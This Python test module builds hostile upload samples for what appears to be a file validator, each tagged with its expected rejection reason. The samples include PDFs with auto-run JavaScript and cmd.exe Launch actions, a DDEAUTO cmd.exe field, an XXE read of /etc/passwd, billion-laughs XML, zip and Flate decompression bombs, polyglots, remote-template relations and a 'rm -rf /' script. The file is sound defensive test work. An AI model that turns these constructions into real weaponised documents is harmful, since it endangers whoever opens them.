"""The files that must not come in, each with the reason that the office gives for it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.uploads.sheets import (
    TYPES,
    blank,
    by_hand,
    docx,
    odt,
    packed,
    picture,
    plain,
    quiet_objects,
    saved,
    xlsx,
    zeros,
)

Maker = Callable[[], bytes]
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def _root(**entries: object) -> Maker:
    """A PDF whose catalogue has these entries."""

    def make() -> bytes:
        pdf = blank()
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value
        return saved(pdf)

    return make


def _page(**entries: object) -> Maker:
    """A PDF whose only page has these entries."""

    def make() -> bytes:
        pdf = blank()
        for key, value in entries.items():
            pdf.pages[0].obj[f"/{key}"] = value
        return saved(pdf)

    return make


def _link(**action: object) -> Maker:
    rect = Array([0, 0, 9, 9])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=Dictionary(**action))
    return _page(Annots=Array([link]))


def _note(kind: str, **entries: object) -> Maker:
    note = Dictionary(
        Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), **entries
    )
    return _page(Annots=Array([note]))


def _stream(data: Maker, **entries: object) -> Maker:
    """A PDF whose page content is this stream."""

    def make() -> bytes:
        pdf = blank()
        stream = pikepdf.Stream(pdf, b"")
        stream.write(data(), filter=entries.get("Filter"))
        for key, value in entries.items():
            stream[f"/{key}"] = value
        pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
        return saved(
            pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )

    return make


def _locked(**how: object) -> Maker:
    return lambda: saved(blank(), encryption=pikepdf.Encryption(**how))


def _hand(catalogue: bytes = b"", page: bytes = b"", *more: bytes) -> Maker:
    return lambda: by_hand([*quiet_objects(catalogue, page), *more])


def _tree(pages: bytes, page: bytes = b"<< /Type /Page /MediaBox [0 0 9 9] >>") -> Maker:
    return lambda: by_hand([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page])


def _torn(data: Maker, keep: float) -> Maker:
    return lambda: data()[: int(len(data()) * keep)]


def _changed(data: Maker, old: bytes, new: bytes) -> Maker:
    def make() -> bytes:
        whole = data()
        assert old in whole
        return whole.replace(old, new)

    return make


def _attached() -> bytes:
    pdf = blank()
    pdf.attachments["du-toan.exe"] = b"MZ"
    return saved(pdf)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _vast_png() -> bytes:
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(3751) * 30_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


def _vast_jpeg() -> bytes:
    data = picture("JPEG")
    frame = data.index(b"\xff\xc0")
    return data[: frame + 5] + struct.pack(">HH", 65_500, 65_500) + data[frame + 9 :]


def _document_bomb() -> bytes:
    """4 GB of one letter."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(300):
                part.write(b"A" * (1 << 20))
    return out.getvalue()


def _many_entries() -> bytes:
    return docx(**{f"word/media/{number}.xml": "" for number in range(1_001)})


def _lying() -> bytes:
    """Says that its document is 40 bytes long; it is 30 MB."""
    true = docx("A" * (30 << 20))
    at = true.index(b"PK\x01\x02", true.index(b"PK\x01\x02") + 1)
    return true[: at + 24] + struct.pack("<I", 40) + true[at + 28 :]


def _overlapping() -> bytes:
    """Two hundred names for the same packed bytes."""
    body = docx(zlib.compress(bytes(range(256)) * 900).hex())
    end = body.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", body, end + 16)[0]
    listing = body[start:end]
    copies = listing[listing.index(b"PK\x01\x02", 1) :] * 200
    size = struct.pack("<HHII", 202, 202, len(listing) + len(copies), start)
    return body[:end] + copies + body[end : end + 8] + size + body[end + 20 :]


def _flagged() -> bytes:
    """The bit that says: this entry needs a password."""
    data = bytearray(docx())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def _relation(kind: str) -> bytes:
    target = (
        f'<Relationship Type="http://x/{kind}" Target="http://la/x.dotm" TargetMode="External"/>'
    )
    return docx(**{"word/_rels/settings.xml.rels": f"<Relationships>{target}</Relationships>"})


def _laughing() -> bytes:
    declared = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": declared})


def _told_secrets() -> bytes:
    entity = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": entity})


def _ole(inside: str = "WordDocument") -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + inside.encode("utf-16-le") + bytes(500)
    )


_FIELD = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r></w:p>'
_SPLIT = (
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
)
_MANIFEST = "<m><encryption-data/></m>"
_MACRO_TYPES = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled")
_SVG = '<?xml version="1.0"?><svg onload="alert(1)"><script>fetch("//x")</script></svg>'
_FILE_SPEC = Dictionary(Type=Name.Filespec, F=String("a.pdf"), EF=Dictionary())
_UNKNOWN, _OTHER = "file_type_unknown", "file_not_what_it_says"
_JS, _DOES, _HOLDS = "file_has_script", "file_has_action", "file_has_attachment"
_BROKEN, _LOCKED = "file_broken", "file_encrypted"

HOSTILE: list[tuple[str, Maker, str]] = [
    # not what it says
    ("chuong-trinh.pdf", lambda: b"MZ\x90\0" + bytes(range(256)) * 150, _OTHER),
    ("elf.pdf", lambda: b"\x7fELF" + bytes(400), _OTHER),
    ("trang-web.pdf", lambda: b"<html><script>x</script>%PDF-1.4</html>", _OTHER),
    ("exe-va-pdf.pdf", lambda: b"MZ" + plain(), _OTHER),
    ("anh.pdf", lambda: picture("PNG"), _OTHER),
    ("van-ban.png", plain, _OTHER),
    ("van-ban.exe", plain, _OTHER),
    ("van-ban.html", plain, _OTHER),
    ("anh.jpg", lambda: picture("PNG"), _OTHER),
    ("bang.docx", xlsx, _OTHER),
    ("nen.docx", lambda: packed({"a.txt": "x"}), _OTHER),
    ("chu.txt.docx", lambda: b"xin chao", _OTHER),
    ("hai-mat.pdf", lambda: plain() + packed({"x.jsp": "x"}), _OTHER),
    ("hai-mat.png", lambda: picture("PNG") + packed({"x.class": "x"}), _OTHER),
    ("hai-mat.jpg", lambda: picture("JPEG") + packed({"x.class": "x"}), _OTHER),
    # unknown
    ("hinh.svg", _SVG.encode, _UNKNOWN),
    ("hinh.gif", lambda: b"GIF89a" + bytes(60), _UNKNOWN),
    ("hinh.bmp", lambda: b"BM" + bytes(60), _UNKNOWN),
    ("hinh.webp", lambda: b"RIFF\x20\0\0\0WEBPVP8 " + bytes(60), _UNKNOWN),
    ("chu.txt", lambda: b"xin chao", _UNKNOWN),
    ("nen.zip", lambda: packed({"a.txt": "x"}), _UNKNOWN),
    ("nen.rar", lambda: b"Rar!\x1a\x07\0" + bytes(60), _UNKNOWN),
    ("nen.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60), _UNKNOWN),
    ("cu.doc", _ole, _UNKNOWN),
    ("trang.html", lambda: b"<!doctype html><p>x", _UNKNOWN),
    ("lenh.sh", lambda: b"#!/bin/sh\nrm -rf /", _UNKNOWN),
    ("khong-duoi", lambda: bytes(64), _UNKNOWN),
    # scripts
    ("js-mo.pdf", _root(OpenAction=SCRIPT), _JS),
    ("js-ten.pdf", _root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))), _JS),
    ("js-lien-ket.pdf", _link(S=Name.JavaScript, JS=String("x")), _JS),
    ("js-sau.pdf", _link(S=Name.GoTo, D=String("a"), Next=Array([SCRIPT])), _JS),
    ("js-truong.pdf", _note("Screen", AA=Dictionary(E=SCRIPT)), _JS),
    ("js-viet-khac.pdf", _hand(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), _JS),
    ("js-ten-rieng.pdf", _hand(b"/OpenAction << /S 4 0 R >>", b"", b"/JavaScript"), _JS),
    ("js-luong.pdf", _hand(b"/OpenAction << /JS 4 0 R >>", b"", b"(x)"), _JS),
    ("xfa.pdf", _root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))), _JS),
    # actions
    ("launch.pdf", _root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))), _DOES),
    ("launch-viet-khac.pdf", _hand(b"/OpenAction << /S /L#61unch >>"), _DOES),
    ("gui.pdf", _link(S=Name.SubmitForm, F=String("http://la")), _DOES),
    ("nhap.pdf", _link(S=Name.ImportData, F=String("a.fdf")), _DOES),
    ("mo-tep-khac.pdf", _link(S=Name.GoToR, F=String("//la/x.pdf"), D=Array([0])), _DOES),
    ("mo-tep-trong.pdf", _link(S=Name.GoToE, D=Array([0])), _DOES),
    ("phim.pdf", _note("RichMedia"), _DOES),
    ("trinh-chieu.pdf", _link(S=Name.Rendition, OP=0), _DOES),
    ("tu-dong.pdf", _page(AA=Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))), _DOES),
    # attachments
    ("kem.pdf", _attached, _HOLDS),
    ("ghim.pdf", _note("FileAttachment"), _HOLDS),
    ("kem-lien-ket.pdf", _root(AF=Array([_FILE_SPEC])), _HOLDS),
    # locked
    ("ma-hoa.pdf", _locked(owner="chu", user="khach", R=6), _LOCKED),
    ("ma-hoa-chu.pdf", _locked(owner="chu", user="", R=6), _LOCKED),
    ("ma-hoa-cu.pdf", _locked(owner="chu", user="khach", R=3, aes=False, metadata=False), _LOCKED),
    ("khoa.docx", lambda: _ole("EncryptedPackage"), _LOCKED),
    ("khoa-zip.docx", _flagged, _LOCKED),
    ("khoa.odt", lambda: odt(**{"META-INF/manifest.xml": _MANIFEST}), _LOCKED),
    # broken
    ("nua.pdf", _torn(lambda: plain(40), 0.5), _BROKEN),
    ("dau.pdf", lambda: b"%PDF-1.7\n", _BROKEN),
    ("rac.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, _BROKEN),
    ("xref-sai.pdf", _changed(plain, b"startxref\n", b"startxref\n9"), _BROKEN),
    ("khong-goc.pdf", _changed(plain, b"/Root", b"/Rood"), _BROKEN),
    ("vong.pdf", _tree(b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), _BROKEN),
    ("vong-xref.pdf", lambda: by_hand(quiet_objects(), b"/Prev 9"), _BROKEN),
    ("dem-sai.pdf", _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"), _BROKEN),
    ("khong-trang.pdf", _tree(b"<< /Type /Pages /Kids [] /Count 0 >>"), _BROKEN),
    ("kids-la.pdf", _tree(b"<< /Type /Pages /Kids [7] /Count 1 >>"), _BROKEN),
    ("hop-la.pdf", _tree(b"<< /Kids [3 0 R] /Count 1 >>", b"<< /MediaBox [0 (x)] >>"), _BROKEN),
    ("nua.png", _torn(lambda: picture("PNG"), 0.6), _BROKEN),
    ("hong.png", _changed(lambda: picture("PNG"), b"IDAT", b"IDAX"), _BROKEN),
    ("nua.jpg", _torn(lambda: picture("JPEG"), 0.4), _BROKEN),
    ("nua.tif", _torn(lambda: picture("TIFF"), 0.5), _BROKEN),
    ("nua.docx", _torn(docx, 0.6), _BROKEN),
    ("rong.docx", lambda: packed({"[Content_Types].xml": TYPES, "word/a.xml": ""}), _BROKEN),
    ("xml-hong.docx", lambda: docx("<w:p>"), _BROKEN),
    ("thuc-the.docx", _laughing, _BROKEN),
    ("doc-trom.docx", _told_secrets, _BROKEN),
    ("noi-doi.docx", _lying, _BROKEN),
    # too much
    ("muoi-nghin-trang.pdf", lambda: plain(10_000), "file_too_many_pages"),
    (
        "mot-trang-nhieu-lan.pdf",
        _tree(b"<< /Kids [%s] /Count 200000 >>" % (b"3 0 R " * 200_000)),
        "file_too_many_pages",
    ),
    ("kho-lon.pdf", _page(MediaBox=Array([0, 0, 1_000_000, 842])), "page_too_large"),
    ("kho-lon-don-vi.pdf", _page(UserUnit=100), "page_too_large"),
    (
        "kho-lon-thua-ke.pdf",
        _tree(b"<< /Kids [3 0 R] /Count 1 /MediaBox [0 0 9 99999] >>", b"<< /Type /Page >>"),
        "page_too_large",
    ),
    (
        "anh-lon.pdf",
        _stream(lambda: b"x", Subtype=Name.Image, Width=20_000, Height=20_000),
        "image_too_large",
    ),
    ("to-qua.png", _vast_png, "image_too_large"),
    ("to-qua.jpg", _vast_jpeg, "image_too_large"),
    (
        "bom.pdf",
        _stream(lambda: zeros(300 << 20), Filter=Name.FlateDecode),
        "archive_bomb",
    ),
    (
        "bom-kep.pdf",
        _stream(
            lambda: zlib.compress(zeros(300 << 20)),
            Filter=Array([Name.FlateDecode, Name.FlateDecode]),
        ),
        "archive_bomb",
    ),
    ("bom.docx", _document_bomb, "archive_bomb"),
    ("nhieu-muc.docx", _many_entries, "archive_bomb"),
    ("chong-len.docx", _overlapping, "archive_bomb"),
    ("sau.pdf", _hand(b"/X " + b"[" * 100_000 + b"]" * 100_000), _BROKEN),
    ("sau.docx", lambda: docx("<a>" * 600 + "</a>" * 600), "file_too_complex"),
    ("nhieu-vat.pdf", _hand(b"", b"", *[b"null"] * 200_001), "file_too_complex"),
    # macros and strangers
    ("macro.docx", lambda: docx(**{"word/vbaProject.bin": b"x"}), "has_macros"),
    ("macro.docm", lambda: docx(**{"word/vbaProject.bin": b"x"}), "has_macros"),
    ("macro.xlsx", lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "has_macros"),
    ("activex.docx", lambda: docx(**{"word/activeX/activeX1.bin": b"x"}), "has_macros"),
    ("macro.odt", lambda: odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "has_macros"),
    (
        "kieu-macro.docx",
        lambda: packed({"[Content_Types].xml": _MACRO_TYPES, "word/document.xml": "<d/>"}),
        "has_macros",
    ),
    ("ole.docx", lambda: docx(**{"word/embeddings/oleObject1.bin": b"x"}), _HOLDS),
    ("mau-tu-xa.docx", lambda: _relation("attachedTemplate"), _DOES),
    ("ole-tu-xa.docx", lambda: _relation("oleObject"), _DOES),
    ("dde.docx", lambda: docx(_FIELD), _DOES),
    ("dde-tach.docx", lambda: docx(_SPLIT), _DOES),
]
